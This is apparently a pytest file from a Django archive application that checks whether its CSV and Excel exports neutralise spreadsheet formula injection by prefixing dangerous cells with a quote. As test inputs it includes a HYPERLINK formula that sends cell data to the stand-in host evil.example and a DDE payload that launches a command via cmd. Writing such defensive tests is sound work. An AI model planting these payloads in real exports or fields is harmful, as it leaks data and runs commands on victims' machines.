"""Issue 15 item 8: CSV and Excel exports never carry a live formula (OWASP CSV injection).

What an unauthenticated caller types as a username, or sends as a User-Agent, and what an
archivist types as a title, reach the security auditor's and the archivist's spreadsheets; each
cell that a spreadsheet would evaluate starts with a single quote, the rest kept."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client

from kjda.accounts.models import Profile
from kjda.accounts.services import token_issue
from kjda_oasim.factories import metadata_json, voucher_pdf

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
# (ingest strips a title's surrounding white space: "\t=…" and "\r=…" arrive as "=…")
DANGEROUS = ["=1+2", "@SUM(A1:A2)", "+1+2", "-1+2", "\t=TAB()", "\r=CR()"]


@pytest.fixture
def audit_admin(db, django_user_model, settings):
    # MFA for the three administrators is another item's concern: off for this test instance.
    settings.KJDA_MFA_REQUIRED_ROLES = []
    user = django_user_model.objects.create_user("aud", password="Audit-Pass-2024!")
    Profile.objects.create(user=user, roles=["auditadmin"])
    return Client(headers={"Authorization": f"Bearer {token_issue(user=user, name='t')[1]}"})


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_failed_login_usernames_are_no_formulas_in_the_audit_csv(audit_admin):
    evil_agent = "=cmd|' /C calc'!A0"
    web = Client(headers={"User-Agent": evil_agent})
    page = web.post("/login/", {"login": PAYLOAD + " web", "password": "wrong-password-1"})
    assert page.status_code == 200  # the login form again, with its error
    api = Client(headers={"User-Agent": evil_agent})
    token = api.post("/api/v1/auth/token", {"username": PAYLOAD + " api",
                                             "password": "wrong-password-2"},
                     content_type="application/json")
    assert token.status_code == 401

    rows = _csv(audit_admin.get("/api/v1/audit", {"format": "csv", "action": "auth.failed"}))

    header, body = rows[0], rows[1:]
    names = [r[header.index("actor_name")] for r in body]
    assert sorted(names) == sorted(["'" + PAYLOAD + " web", "'" + PAYLOAD + " api"])
    assert {r[header.index("user_agent")] for r in body} == {"'" + evil_agent}
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    # the web form also records the name as the object: neutralised the same way
    assert "'" + PAYLOAD + " web" in [r[header.index("object_id")] for r in body]


def _file(api, title: str, amount: str, n: int) -> None:
    meta = metadata_json(title=title, amount=amount, document_no=f"记-{n:04d}",
                         external_id=f"csv-{n}", source_system="tests")
    pdf = voucher_pdf(number=f"{n:04d}", summary=title, amount=Decimal("100.00"),
                      day=date(2024, 3, 15))
    response = api.post_record(meta, [(f"v{n}.pdf", pdf)])
    assert response.status_code == 201, response.content[:300]


def test_catalogue_csv_and_xlsx_titles_are_no_formulas(api):
    for n, title in enumerate(DANGEROUS, start=1):
        _file(api, title, "-12.50" if n == 1 else "100.00", n)

    rows = _csv(api.get("/api/v1/records", format="csv"))
    header, body = rows[0], rows[1:]
    titles = sorted(r[header.index("题名")] for r in body)
    assert titles == sorted("'" + t.strip() for t in DANGEROUS)
    amounts = sorted(r[header.index("金额")] for r in body)
    assert amounts[0] == "-12.50"  # a genuine negative amount stays a number
    searched = _csv(api.get("/api/v1/records", format="csv", q="SUM"))  # a search exports too
    assert [r[header.index("题名")] for r in searched[1:]] == ["'@SUM(A1:A2)"]

    from openpyxl import load_workbook

    response = api.get("/api/v1/records", format="xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    ws = wb.active
    cells = list(ws.iter_rows(values_only=False))
    head = [c.value for c in cells[0]]
    title_cells = [r[head.index("题名")] for r in cells[1:]]
    assert all(c.data_type == "s" for c in title_cells)
    assert sorted(c.value for c in title_cells) == sorted("'" + t.strip() for t in DANGEROUS)
    amount_cells = [r[head.index("金额")] for r in cells[1:]]
    assert all(c.data_type == "n" for c in amount_cells)
    assert -12.5 in [float(c.value) for c in amount_cells]


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_prefix_gets_the_quote(text):
    from kjda.export_cells import cell_value

    assert cell_value(text) == "'" + text


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    from kjda.export_cells import cell_value

    assert cell_value(Decimal("-12.50")) == Decimal("-12.50")
    assert cell_value(-3) == -3
    assert cell_value("差旅费 = 100") == "差旅费 = 100"
    assert cell_value({"a": "=1"}) == '{"a": "=1"}'
    assert cell_value(None) == ""
